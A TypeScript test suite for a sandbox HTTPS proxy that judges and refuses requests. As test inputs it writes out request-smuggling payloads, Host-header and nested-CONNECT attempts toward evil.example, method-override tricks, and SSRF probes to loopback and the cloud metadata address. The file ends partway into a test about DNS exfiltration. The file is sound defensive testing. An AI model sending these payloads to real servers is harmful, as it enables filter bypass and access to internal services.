import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { spawn, spawnSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { connect, createServer, type Server, type Socket } from "node:net";
import { join } from "node:path";
import { createServer as createTlsServer, connect as tlsConnect } from "node:tls";
import { type ProxyRequest, startCommandProxy } from "../../net/command-proxy.ts";
import { createRunCa } from "../../net/run-ca.ts";
import { tempDir } from "../support/temp.ts";

const HOST = "git.pencil.test";
const hasCurl = spawnSync("curl", ["--version"]).status === 0;

/** An HTTPS server for HOST with a certificate from a CA of the test's own (the proxy trusts it only when told). */
async function upstreamServer() {
  const upstreamCa = await createRunCa("test upstream CA");
  const { cert, key } = await upstreamCa.leafFor(HOST);
  const seen: string[] = [];
  const server = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    tls: { cert, key },
    async fetch(req) {
      const body = await req.text();
      seen.push(`${req.method} ${new URL(req.url).pathname} host=${req.headers.get("host")} body=${body.length}`);
      return new Response(`hello from ${HOST}\n`);
    },
  });
  return { server, seen, ca: upstreamCa.certPem };
}

/** The proxy plus a TCP door to its unix socket (as the sandbox's forwarder is), and the run CA in a file. */
async function proxyFor(reach: (r: ProxyRequest) => Promise<boolean>, upstreamCa?: string) {
  const dir = tempDir("pencil-proxy-");
  const proxy = await startCommandProxy({
    socketPath: join(dir, "proxy.sock"),
    reach,
    // As DNS does, a trailing dot names the same host.
    resolveHost: (h) => (h.replace(/\.$/, "") === HOST ? "127.0.0.1" : h),
    ...(upstreamCa ? { upstreamCa } : {}),
    firstBytesTimeoutMs: 1_000,
  });
  const door: Server = createServer((c) => {
    const u = connect(join(dir, "proxy.sock"));
    c.pipe(u).pipe(c);
    c.on("error", () => u.destroy());
    u.on("error", () => c.destroy());
  });
  await new Promise<void>((r) => door.listen(0, "127.0.0.1", r));
  const port = (door.address() as { port: number }).port;
  writeFileSync(join(dir, "ca.pem"), proxy.caCertPem);
  return {
    proxy,
    port,
    caFile: join(dir, "ca.pem"),
    socketPath: join(dir, "proxy.sock"),
    close: () => {
      door.close();
      return proxy.close();
    },
  };
}

function curl(args: string[]): Promise<{ status: number | null; out: string }> {
  return new Promise((resolve) => {
    const p = spawn("curl", ["-sS", ...args], { env: { PATH: process.env.PATH ?? "/usr/bin:/bin" } });
    let out = "";
    p.stdout.on("data", (d) => (out += d));
    p.stderr.on("data", (d) => (out += d));
    p.on("close", (status) => resolve({ status, out }));
  });
}

/** Opens a CONNECT tunnel on the proxy's unix socket and resolves the raw socket once the proxy answered 200. */
function tunnel(socketPath: string, target: string): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const s = connect(socketPath, () => s.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
    s.once("data", (d) => (d.toString().startsWith("HTTP/1.1 200") ? resolve(s) : reject(new Error(d.toString()))));
    s.once("error", reject);
  });
}

/** A judge that records every request and lets it go. */
function recordAll(asked: ProxyRequest[]) {
  return async (r: ProxyRequest) => {
    asked.push(r);
    return true;
  };
}

/** Resolves when a socket closed or failed. */
function ended(s: Socket): Promise<void> {
  return new Promise((r) => {
    s.on("close", () => r());
    s.on("error", () => r());
  });
}

/** Sends `request` as written through a tunnel to `target`, TLS trusting the proxy's CA, and returns all the answer until the connection ends. */
async function exchange(
  p: { socketPath: string; proxy: { caCertPem?: string } },
  target: string,
  request: string,
): Promise<string> {
  const s = tlsConnect({ socket: await tunnel(p.socketPath, target), servername: HOST, ca: p.proxy.caCertPem });
  let out = "";
  s.on("data", (d) => {
    out += d;
  });
  s.on("secureConnect", () => s.write(request));
  await ended(s);
  return out;
}

/** Waits until `cond` holds (the proxy records a refusal when it closes the tunnel). */
async function until(cond: () => boolean): Promise<void> {
  for (let i = 0; i < 200 && !cond(); i++) await Bun.sleep(25);
}

/**
 * A server that records the raw bytes each connection brings (TLS for HOST with the test's CA, or plain TCP), and
 * answers 200 once `done(bytes)` holds: what a real server would parse, whatever the proxy sent.
 */
async function rawUpstream(tls: boolean, done: (bytes: string) => boolean) {
  const upstreamCa = await createRunCa("test raw upstream CA");
  const { cert, key } = await upstreamCa.leafFor(HOST);
  const received: string[] = [];
  const onConnection = (c: Socket) => {
    let bytes = "";
    const i = received.push("") - 1;
    c.on("data", (d) => {
      bytes += d;
      received[i] = bytes;
      if (done(bytes)) c.end("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
    });
    c.on("error", () => c.destroy());
  };
  const server = tls ? createTlsServer({ cert, key }, onConnection) : createServer(onConnection);
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    received,
    port: (server.address() as { port: number }).port,
    ca: upstreamCa.certPem,
    close: () => server.close(),
  };
}

/** The requests in `bytes` as a server reads them: each head, then a body framed by Content-Length or chunked encoding. */
function requestsIn(bytes: string): string[] {
  const heads: string[] = [];
  let rest = bytes;
  while (rest.length > 0) {
    const end = rest.indexOf("\r\n\r\n");
    if (end === -1) break;
    const head = rest.slice(0, end);
    heads.push(head.split("\r\n")[0]!);
    rest = rest.slice(end + 4);
    const length = /\r\ncontent-length: *(\d+)/i.exec(head);
    if (/\r\ntransfer-encoding: *chunked/i.test(head)) {
      for (;;) {
        const line = rest.indexOf("\r\n");
        const size = Number.parseInt(rest.slice(0, line), 16);
        rest = rest.slice(line + 2 + size + (size > 0 ? 2 : 0));
        if (size === 0) {
          rest = rest.slice(rest.indexOf("\r\n") + 2);
          break;
        }
      }
    } else if (length) rest = rest.slice(Number(length[1]));
  }
  return heads;
}

/** Sends `request` through a tunnel to `target` and resolves with everything the proxy answered. */
async function throughTunnel(
  socketPath: string,
  target: string,
  ca: string,
  request: string,
  checkServerIdentity?: () => undefined,
): Promise<string> {
  const s = tlsConnect({
    socket: await tunnel(socketPath, target),
    servername: HOST,
    ca,
    ...(checkServerIdentity ? { checkServerIdentity } : {}),
  });
  let out = "";
  s.on("data", (d) => {
    out += d;
  });
  s.on("secureConnect", () => s.write(request));
  await ended(s);
  return out;
}

/** Sends raw bytes to the proxy (a plain HTTP request) and resolves with its answer once it hangs up. */
function plainRequest(socketPath: string, request: string): Promise<string> {
  return new Promise((resolve) => {
    const s = connect(socketPath, () => s.write(request));
    let out = "";
    s.on("data", (d) => {
      out += d;
    });
    s.on("close", () => resolve(out));
    s.on("error", () => resolve(out));
  });
}

describe("command proxy: HTTPS tunnels are opened and every request inside is judged", () => {
  let up: Awaited<ReturnType<typeof upstreamServer>>;
  beforeAll(async () => {
    up = await upstreamServer();
  });
  afterAll(() => up.server.stop(true));

  test.skipIf(!hasCurl)(
    "a GET inside the tunnel is judged by method and full https URL and goes through; a POST refused is never sent",
    async () => {
      const asked: ProxyRequest[] = [];
      const p = await proxyFor(async (r) => {
        asked.push(r);
        return r.method === "GET";
      }, up.ca);
      try {
        const base = `https://${HOST}:${up.server.port}`;
        const common = ["--proxy", `http://127.0.0.1:${p.port}`, "--cacert", p.caFile];
        const get = await curl([...common, `${base}/repo.git/info/refs?service=git-receive-pack`, `${base}/again`]);
        expect(get.status).toBe(0);
        expect(get.out).toBe(`hello from ${HOST}\nhello from ${HOST}\n`);
        const post = await curl([
          ...common,
          "-X",
          "POST",
          "--data",
          "secret-upload",
          "-w",
          "%{http_code}",
          `${base}/upload`,
        ]);
        expect(post.out).toContain("the owner did not allow POST");
        expect(post.out).toEndWith("403");
        expect(asked.map((r) => `${r.method} ${r.url}`)).toEqual([
          `GET ${base}/repo.git/info/refs?service=git-receive-pack`,
          `GET ${base}/again`,
          `POST ${base}/upload`,
        ]);
        expect(up.seen.filter((x) => x.startsWith("POST"))).toEqual([]);
        expect(up.seen).toContain(`GET /again host=${HOST}:${up.server.port} body=0`);
        expect(p.proxy.log.map((r) => [r.method, r.allowed])).toEqual([
          ["GET", true],
          ["GET", true],
          ["POST", false],
        ]);
      } finally {
        await p.close();
      }
    },
    30_000,
  );

  test.skipIf(!hasCurl)(
    "a client that does not trust the run's CA fails closed: nothing is asked or sent",
    async () => {
      const asked: ProxyRequest[] = [];
      const p = await proxyFor(recordAll(asked), up.ca);
      const before = up.seen.length;
      try {
        const out = await curl(["--proxy", `http://127.0.0.1:${p.port}`, `https://${HOST}:${up.server.port}/`]);
        expect(out.status).toBe(60); // curl: the peer's certificate could not be verified
        await until(() => p.proxy.log.length > 0);
        expect(asked).toEqual([]);
        expect(up.seen.length).toBe(before);
        expect(p.proxy.log).toEqual([
          expect.objectContaining({
            method: "CONNECT",
            host: HOST,
            allowed: false,
            refused: expect.stringContaining("TLS handshake failed"),
          }),
        ]);
      } finally {
        await p.close();
      }
    },
  );

  test("a stream that is not TLS in a tunnel (SSH over 443) is refused and recorded, never passed through", async () => {
    const raw = createServer((s) => s.end("SSH-2.0-upstream\r\n"));
    await new Promise<void>((r) => raw.listen(0, "127.0.0.1", r));
    let reached = 0;
    raw.on("connection", () => reached++);
    const rawPort = (raw.address() as { port: number }).port;
    const p = await proxyFor(async () => true);
    try {
      const s = await tunnel(p.socketPath, `${HOST}:${rawPort}`);
      s.write("SSH-2.0-OpenSSH_9.2\r\n");
      await new Promise((r) => s.on("close", r));
      // And a client that waits for the server to speak first: silence is refused too.
      const quiet = await tunnel(p.socketPath, `${HOST}:${rawPort}`);
      await new Promise((r) => quiet.on("close", r));
      expect(reached).toBe(0);
      expect(p.proxy.log.map((r) => [r.method, `${r.host}:${r.port}`, r.allowed, r.refused?.split(" ")[0]])).toEqual([
        ["CONNECT", `${HOST}:${rawPort}`, false, "not"],
        ["CONNECT", `${HOST}:${rawPort}`, false, "the"],
      ]);
    } finally {
      raw.close();
      await p.close();
    }
  });

  test("a TLS handshake begun and never finished is given up, recorded, and reaches nothing", async () => {
    const p = await proxyFor(async () => true, up.ca);
    const before = up.seen.length;
    try {
      const s = await tunnel(p.socketPath, `${HOST}:${up.server.port}`);
      // The start of a ClientHello record (handshake, TLS 1.0 record version, a length), then nothing more.
      s.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00]));
      await new Promise((r) => s.on("close", r));
      expect(p.proxy.log.map((r) => [r.method, r.allowed, r.refused])).toEqual([
        ["CONNECT", false, "the TLS handshake did not finish in time"],
      ]);
      expect(up.seen.length).toBe(before);
    } finally {
      await p.close();
    }
  });

  test("TLS without HTTP/1.1 inside (HTTP/2 only, or another protocol) is refused and recorded", async () => {
    const p = await proxyFor(async () => true, up.ca);
    const before = up.seen.length;
    try {
      const target = `${HOST}:${up.server.port}`;
      // An HTTP/2-only client: the proxy offers http/1.1 alone, so the handshake fails.
      const h2 = tlsConnect({
        socket: await tunnel(p.socketPath, target),
        servername: HOST,
        ca: p.proxy.caCertPem,
        ALPNProtocols: ["h2"],
      });
      await ended(h2);
      // TLS that carries something else than HTTP.
      const other = tlsConnect({ socket: await tunnel(p.socketPath, target), servername: HOST, ca: p.proxy.caCertPem });
      await new Promise((r) => other.on("secureConnect", r));
      other.write("\x00\x01binary protocol\r\n\r\n");
      await ended(other);
      await until(() => p.proxy.log.length >= 2);
      expect(p.proxy.log.map((r) => [r.method, r.allowed])).toEqual([
        ["CONNECT", false],
        ["CONNECT", false],
      ]);
      expect(p.proxy.log[0]!.refused).toContain("TLS handshake failed");
      expect(p.proxy.log[1]!.refused).toContain("not valid HTTP/1.1");
      expect(up.seen.length).toBe(before);
    } finally {
      await p.close();
    }
  });

  test("the request inside goes to the host the tunnel named: an absolute URL for another host is refused, a foreign Host header replaced", async () => {
    const asked: ProxyRequest[] = [];
    const p = await proxyFor(recordAll(asked), up.ca);
    try {
      const target = `${HOST}:${up.server.port}`;
      const ask = (request: string) => exchange(p, target, request);
      const fronted = await ask("GET /x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n");
      expect(fronted).toContain(`hello from ${HOST}`);
      expect(up.seen).toContain(`GET /x host=${target} body=0`);
      const absolute = await ask(
        "GET https://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
      );
      expect(absolute).toStartWith("HTTP/1.1 400");
      expect(asked.map((r) => r.url)).toEqual([`https://${target}/x`]);
    } finally {
      await p.close();
    }
  });

  test("a body is framed anew on the way up; a request with two framings is refused unjudged", async () => {
    const asked: ProxyRequest[] = [];
    const p = await proxyFor(recordAll(asked), up.ca);
    try {
      const target = `${HOST}:${up.server.port}`;
      const send = (request: string) => exchange(p, target, request);
      const chunked = await send(
        "POST /chunked HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n",
      );
      expect(chunked).toStartWith("HTTP/1.1 200");
      expect(up.seen).toContain(`POST /chunked host=${target} body=11`);
      const hidden = "GET /hidden HTTP/1.1\r\nHost: x\r\n\r\n";
      const both = await send(
        `POST /both HTTP/1.1\r\nHost: x\r\nContent-Length: ${5 + hidden.length}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n${hidden}`,
      );
      expect(both).not.toContain(" 200 ");
      expect(asked.map((r) => r.url)).toEqual([`https://${target}/chunked`]);
      expect(up.seen.some((x) => x.includes("/both") || x.includes("/hidden"))).toBe(false);
    } finally {
      await p.close();
    }
  });

  test("a protocol upgrade (WebSocket) inside the tunnel is refused and recorded, never sent", async () => {
    const asked: ProxyRequest[] = [];
    const p = await proxyFor(recordAll(asked), up.ca);
    const before = up.seen.length;
    try {
      const target = `${HOST}:${up.server.port}`;
      const s = tlsConnect({ socket: await tunnel(p.socketPath, target), servername: HOST, ca: p.proxy.caCertPem });
      let out = "";
      s.on("data", (d) => {
        out += d;
      });
      s.on("secureConnect", () =>
        s.write(
          "GET /socket HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
        ),
      );
      await ended(s);
      expect(out).not.toContain("101");
      expect(up.seen.length).toBe(before);
      expect(p.proxy.log).toEqual([
        expect.objectContaining({
          method: "GET",
          url: `https://${target}/socket`,
          allowed: false,
          refused: expect.stringContaining("upgrade"),
        }),
      ]);
    } finally {
      await p.close();
    }
  });

  test("a client that hangs up in the middle of an upload leaves the proxy serving", async () => {
    const p = await proxyFor(async () => true, up.ca);
    try {
      const target = `${HOST}:${up.server.port}`;
      const s = tlsConnect({ socket: await tunnel(p.socketPath, target), servername: HOST, ca: p.proxy.caCertPem });
      await new Promise((r) => s.on("secureConnect", r));
      s.write(`POST /cut HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n${"x".repeat(1000)}`);
      await until(() => p.proxy.log.length > 0);
      s.destroy();
      const again = tlsConnect({ socket: await tunnel(p.socketPath, target), servername: HOST, ca: p.proxy.caCertPem });
      let out = "";
      again.on("data", (d) => {
        out += d;
      });
      again.on("secureConnect", () => again.write("GET /after HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"));
      await ended(again);
      expect(out).toStartWith("HTTP/1.1 200");
      expect(up.seen.some((x) => x.startsWith("POST /cut") && !x.endsWith("body=1000000"))).toBe(false);
    } finally {
      await p.close();
    }
  });

  test.skipIf(!hasCurl)("an upstream whose certificate the proxy does not trust is not reached: 502", async () => {
    // No upstreamCa: the system's trust store, which does not know the test's upstream CA.
    const p = await proxyFor(async () => true);
    const before = up.seen.length;
    try {
      const out = await curl([
        "--proxy",
        `http://127.0.0.1:${p.port}`,
        "--cacert",
        p.caFile,
        "-w",
        "%{http_code}",
        "-X",
        "POST",
        "--data",
        "x",
        `https://${HOST}:${up.server.port}/`,
      ]);
      expect(out.out).toEndWith("502");
      expect(up.seen.length).toBe(before);
    } finally {
      await p.close();
    }
  });

  test.skipIf(!hasCurl)("an upstream whose certificate names another host is not reached: 502", async () => {
    const other = await createRunCa("test upstream CA 2");
    const { cert, key } = await other.leafFor("other.pencil.test");
    let reached = 0;
    const wrong = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      tls: { cert, key },
      fetch: () => {
        reached++;
        return new Response("x");
      },
    });
    const p = await proxyFor(async () => true, other.certPem);
    try {
      const common = ["--proxy", `http://127.0.0.1:${p.port}`, "--cacert", p.caFile, "-w", "%{http_code}"];
      expect((await curl([...common, `https://${HOST}:${wrong.port}/`])).out).toEndWith("502");
      expect(reached).toBe(0);
    } finally {
      wrong.stop(true);
      await p.close();
    }
  });

  test("each proxy has its own CA; its bundle is the system's certificates and then the CA", async () => {
    const a = await proxyFor(async () => false);
    const b = await proxyFor(async () => false);
    try {
      expect(a.proxy.caCertPem).not.toBe(b.proxy.caCertPem);
      expect(a.proxy.caCertPem).toStartWith("-----BEGIN CERTIFICATE-----");
      expect(a.proxy.trustBundlePem.trim()).toEndWith(a.proxy.caCertPem.trim());
      expect(a.proxy.trustBundlePem.split("BEGIN CERTIFICATE").length).toBeGreaterThan(2);
    } finally {
      await a.close();
      await b.close();
    }
  });
});

describe("command proxy: the upstream server reads exactly the requests that were judged", () => {
  // A body the proxy read as chunked must reach the server framed: sent bare after the head of a GET (which
  // normally has no body), the server would read it as a second request that nobody judged.
  const smuggled = "POST /smuggled HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello";
  const chunkedBody = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;

  for (const method of ["GET", "HEAD", "OPTIONS"])
    test(`a ${method} with a chunked body inside a tunnel: the body reaches the server framed, never as a request`, async () => {
      const up = await rawUpstream(true, (b) => b.includes("hello"));
      const p = await proxyFor(async (r) => r.method === method, up.ca);
      try {
        const target = `${HOST}:${up.port}`;
        const out = await throughTunnel(
          p.socketPath,
          target,
          p.proxy.caCertPem,
          `${method} /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunkedBody}`,
        );
        expect(out).toStartWith("HTTP/1.1 200");
        expect(up.received.map(requestsIn)).toEqual([[`${method} /a HTTP/1.1`]]);
        expect(p.proxy.log.map((r) => `${r.method} ${r.url}`)).toEqual([`${method} https://${target}/a`]);
      } finally {
        up.close();
        await p.close();
      }
    });

  test("a plain-HTTP GET with a chunked body: the body reaches the server framed, never as a request", async () => {
    const up = await rawUpstream(false, (b) => b.includes("hello"));
    const p = await proxyFor(async (r) => r.method === "GET");
    try {
      const out = await plainRequest(
        p.socketPath,
        `GET http://${HOST}:${up.port}/a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunkedBody}`,
      );
      expect(out).toStartWith("HTTP/1.1 200");
      expect(up.received.map(requestsIn)).toEqual([["GET /a HTTP/1.1"]]);
    } finally {
      up.close();
      await p.close();
    }
  });
});

describe("command proxy: a host is judged and recorded by the name it reaches", () => {
  test("a trailing dot or capitals do not make another host of a denied one (tunnel and plain HTTP)", async () => {
    const up = await rawUpstream(true, () => true);
    const plain = await rawUpstream(false, () => true);
    const p = await proxyFor(async (r) => r.host !== HOST, up.ca);
    try {
      await throughTunnel(
        p.socketPath,
        `GIT.pencil.test.:${up.port}`,
        p.proxy.caCertPem,
        "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
      );
      await plainRequest(
        p.socketPath,
        `GET http://${HOST}.:${plain.port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      );
      expect(up.received).toEqual([]);
      expect(plain.received).toEqual([]);
      expect(p.proxy.log.map((r) => [r.host, r.url, r.allowed])).toEqual([
        [HOST, `https://${HOST}:${up.port}/`, false],
        [HOST, `http://${HOST}:${plain.port}/`, false],
      ]);
    } finally {
      up.close();
      plain.close();
      await p.close();
    }
  });

  test("an IPv4 address in any spelling (a number, short, hex, inside IPv6) is judged as its dotted form", async () => {
    const up = await rawUpstream(false, () => true);
    const p = await proxyFor(async (r) => r.host !== "127.0.0.1");
    try {
      for (const host of ["2130706433", "127.1", "0x7f.0.0.1", "[::ffff:127.0.0.1]"]) {
        await throughTunnel(
          p.socketPath,
          `${host}:${up.port}`,
          p.proxy.caCertPem,
          "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
          // The run's certificate names the address the proxy judged, whatever the client wrote.
          () => undefined,
        );
        await plainRequest(
          p.socketPath,
          `GET http://${host}:${up.port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
        );
      }
      expect(up.received).toEqual([]);
      expect(new Set(p.proxy.log.map((r) => `${r.host} ${r.allowed}`))).toEqual(new Set(["127.0.0.1 false"]));
      expect(p.proxy.log.length).toBe(8);
    } finally {
      up.close();
      await p.close();
    }
  });

  test("a CONNECT whose authority is not a host and a port is refused unjudged and recorded", async () => {
    const asked: ProxyRequest[] = [];
    const p = await proxyFor(recordAll(asked));
    try {
      const bad = [
        "localhost/x.github.com:443",
        "user@x.github.com:443",
        "x.github.com?:443",
        `${HOST}:0`,
        `${HOST}:65536`,
      ];
      for (const target of bad) await expect(tunnel(p.socketPath, target)).rejects.toThrow("400");
      expect(asked).toEqual([]);
      expect(p.proxy.log.map((r) => [r.method, r.allowed, r.refused?.includes("host")])).toEqual(
        bad.map(() => ["CONNECT", false, true]),
      );
    } finally {
      await p.close();
    }
  });
});

describe("command proxy: a request is judged by what it asks the server to do", () => {
  test("a GET that carries a method override (X-HTTP-Method-Override: DELETE) is judged as the DELETE it asks for", async () => {
    const up = await rawUpstream(true, () => true);
    const asked: ProxyRequest[] = [];
    const p = await proxyFor(async (r) => {
      asked.push(r);
      return r.method === "GET";
    }, up.ca);
    try {
      const target = `${HOST}:${up.port}`;
      for (const header of ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"]) {
        const out = await throughTunnel(
          p.socketPath,
          target,
          p.proxy.caCertPem,
          `GET /repo HTTP/1.1\r\nHost: x\r\n${header}: delete\r\nConnection: close\r\n\r\n`,
        );
        expect(out).toContain("403");
      }
      // And never the other way: a POST that says it is a GET is a POST to a server that ignores the header.
      const post = await throughTunnel(
        p.socketPath,
        target,
        p.proxy.caCertPem,
        "POST /repo HTTP/1.1\r\nHost: x\r\nX-HTTP-Method-Override: GET\r\nContent-Length: 1\r\nConnection: close\r\n\r\nx",
      );
      expect(post).toContain("403");
      expect(up.received).toEqual([]);
      expect(asked.map((r) => `${r.method} ${r.url}`)).toEqual([
        ...Array(3).fill(`DELETE https://${target}/repo`),
        `POST https://${target}/repo`,
      ]);
    } finally {
      up.close();
      await p.close();
    }
  });
});

describe("command proxy: every spelling of a method override is judged as the method it names", () => {
  const multipart = (name: string, value: string) =>
    `--b0undary\r\nContent-Disposition: form-data; name="title"\r\n\r\nhello\r\n--b0undary\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n--b0undary--\r\n`;
  const form = (contentType: string, body: string) =>
    `Content-Type: ${contentType}\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`;
  const cases: [string, string, string][] = [
    [
      "X-Original-Method",
      "GET /repo HTTP/1.1\r\nHost: x\r\nX-Original-Method: delete\r\nConnection: close\r\n\r\n",
      "DELETE",
    ],
    [
      "X-Forwarded-Method",
      "GET /repo HTTP/1.1\r\nHost: x\r\nX-Forwarded-Method: PUT\r\nConnection: close\r\n\r\n",
      "PUT",
    ],
    ["?_method= in the URL", "GET /repo?_method=DELETE HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", "DELETE"],
    [
      "_method in a URL-encoded form body",
      `POST /repo HTTP/1.1\r\nHost: x\r\n${form("application/x-www-form-urlencoded", "title=hi&_method=delete")}`,
      "DELETE",
    ],
    [
      "_method in a multipart form body",
      `POST /repo HTTP/1.1\r\nHost: x\r\n${form("multipart/form-data; boundary=b0undary", multipart("_method", "PATCH"))}`,
      "PATCH",
    ],
    [
      "_method in the form body of a GET",
      `GET /repo HTTP/1.1\r\nHost: x\r\n${form("application/x-www-form-urlencoded", "_method=DELETE")}`,
      "DELETE",
    ],
    [
      "a GET's form body too large to be read before judging (what it names is not known)",
      `GET /repo HTTP/1.1\r\nHost: x\r\n${form("application/x-www-form-urlencoded", `a=${"x".repeat(400_000)}&_method=DELETE`)}`,
      "POST",
    ],
  ];
  test("X-Original-Method, X-Forwarded-Method, ?_method= and a form's _method (URL-encoded, multipart) are judged as the method named", async () => {
    const up = await rawUpstream(true, () => true);
    const asked: ProxyRequest[] = [];
    const p = await proxyFor(async (r) => {
      asked.push(r);
      return r.method === "GET";
    }, up.ca);
    try {
      const target = `${HOST}:${up.port}`;
      for (const [, request] of cases)
        expect(await throughTunnel(p.socketPath, target, p.proxy.caCertPem, request)).toContain("403");
      expect(up.received).toEqual([]);
      expect(asked.map((r) => r.method)).toEqual(cases.map(([, , method]) => method));
    } finally {
      up.close();
      await p.close();
    }
  });

  test("a form read to be judged reaches the server byte for byte once allowed; a POST naming GET stays a POST", async () => {
    const body = multipart("_method", "GET");
    const up = await rawUpstream(true, (bytes) => bytes.endsWith("--b0undary--\r\n"));
    const asked: ProxyRequest[] = [];
    const p = await proxyFor(recordAll(asked), up.ca);
    try {
      const out = await throughTunnel(
        p.socketPath,
        `${HOST}:${up.port}`,
        p.proxy.caCertPem,
        `POST /upload HTTP/1.1\r\nHost: x\r\n${form("multipart/form-data; boundary=b0undary", body)}`,
      );
      expect(out).toContain("200");
      expect(asked.map((r) => r.method)).toEqual(["POST"]);
      expect(up.received.length).toBe(1);
      expect(up.received[0]!.endsWith(`\r\n\r\n${body}`)).toBe(true);
    } finally {
      up.close();
      await p.close();
    }
  });
});

describe("command proxy: what is refused as such is recorded", () => {
  test("a CONNECT inside a tunnel and an upgrade in plain HTTP are refused and recorded, never sent", async () => {
    const up = await rawUpstream(true, () => true);
    const plain = await rawUpstream(false, () => true);
    const asked: ProxyRequest[] = [];
    const p = await proxyFor(recordAll(asked), up.ca);
    try {
      const target = `${HOST}:${up.port}`;
      const nested = await throughTunnel(
        p.socketPath,
        target,
        p.proxy.caCertPem,
        "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
      );
      expect(nested).not.toContain("200");
      const upgrade = await plainRequest(
        p.socketPath,
        `GET http://${HOST}:${plain.port}/ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n`,
      );
      expect(upgrade).not.toContain("101");
      await until(() => p.proxy.log.length >= 2);
      expect(asked).toEqual([]);
      expect(up.received).toEqual([]);
      expect(plain.received).toEqual([]);
      expect(p.proxy.log.map((r) => [r.method, r.allowed, typeof r.refused])).toEqual([
        ["CONNECT", false, "string"],
        ["GET", false, "string"],
      ]);
      expect(p.proxy.log[0]!.refused).toContain("evil.example:443");
      expect(p.proxy.log[1]!.url).toBe(`http://${HOST}:${plain.port}/ws`);
    } finally {
      up.close();
      plain.close();
      await p.close();
    }
  });
});

describe("command proxy: the owner's own machine stays out of reach", () => {
  test("loopback, unspecified and link-local (cloud metadata) addresses are refused unasked, whatever the rules", async () => {
    const up = await rawUpstream(false, () => true);
    const asked: ProxyRequest[] = [];
    const dir = tempDir("pencil-proxy-");
    // No resolveHost: names go to the system's resolver, as in Pencil.
    const proxy = await startCommandProxy({ socketPath: join(dir, "proxy.sock"), reach: recordAll(asked) });
    const socketPath = join(dir, "proxy.sock");
    try {
      const urls = [
        `http://127.0.0.1:${up.port}/`,
        `http://localhost:${up.port}/`,
        `http://[::1]:${up.port}/`,
        `http://0.0.0.0:${up.port}/`,
        `http://[::ffff:127.0.0.1]:${up.port}/`,
        "http://169.254.169.254/latest/meta-data/",
      ];
      for (const url of urls) {
        const out = await plainRequest(socketPath, `GET ${url} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
        expect(out).toStartWith("HTTP/1.1 403");
      }
      const t = tlsConnect({
        socket: await tunnel(socketPath, `127.0.0.1:${up.port}`),
        ca: proxy.caCertPem,
        checkServerIdentity: () => undefined,
      });
      let out = "";
      t.on("data", (d) => {
        out += d;
      });
      t.on("secureConnect", () => t.write("GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"));
      await ended(t);
      expect(out).toStartWith("HTTP/1.1 403");
      expect(asked).toEqual([]);
      expect(up.received).toEqual([]);
      expect(proxy.log.length).toBe(urls.length + 1);
      for (const r of proxy.log) {
        expect(r.allowed).toBe(false);
        expect(r.refused).toMatch(/loopback|unspecified|this network|link-local/);
      }
    } finally {
      up.close();
      await proxy.close();
    }
  });
});

describe("command proxy: a server's odd answer never brings the proxy down", () => {
  for (const [what, answer] of [
    ["status 000", "HTTP/1.1 000 Zero\r\nContent-Length: 2\r\n\r\nok"],
    ["status 099", "HTTP/1.1 099 Low\r\nContent-Length: 2\r\n\r\nok"],
    [
      "a 101 upgrade nobody asked for",
      "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\nraw",
    ],
  ] as const)
    test(`an answer with ${what} is a 502 for the command, and the proxy keeps serving`, async () => {
      let answers = 0;
      const server = createServer((c) => {
        c.once("data", () => c.end(answers++ === 0 ? answer : "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"));
        c.on("error", () => c.destroy());
      });
      await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
      const port = (server.address() as { port: number }).port;
      const p = await proxyFor(async () => true);
      try {
        const ask = () =>
          plainRequest(p.socketPath, `GET http://${HOST}:${port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
        expect(await ask()).toStartWith("HTTP/1.1 502");
        expect(await ask()).toStartWith("HTTP/1.1 200");
      } finally {
        server.close();
        await p.close();
      }
    });
});

describe("command proxy: nothing about a request leaves before it is allowed", () => {
  test("a refused host name is never resolved: a name cannot carry data out through DNS", async () => {
    const resolved: string[] = [];
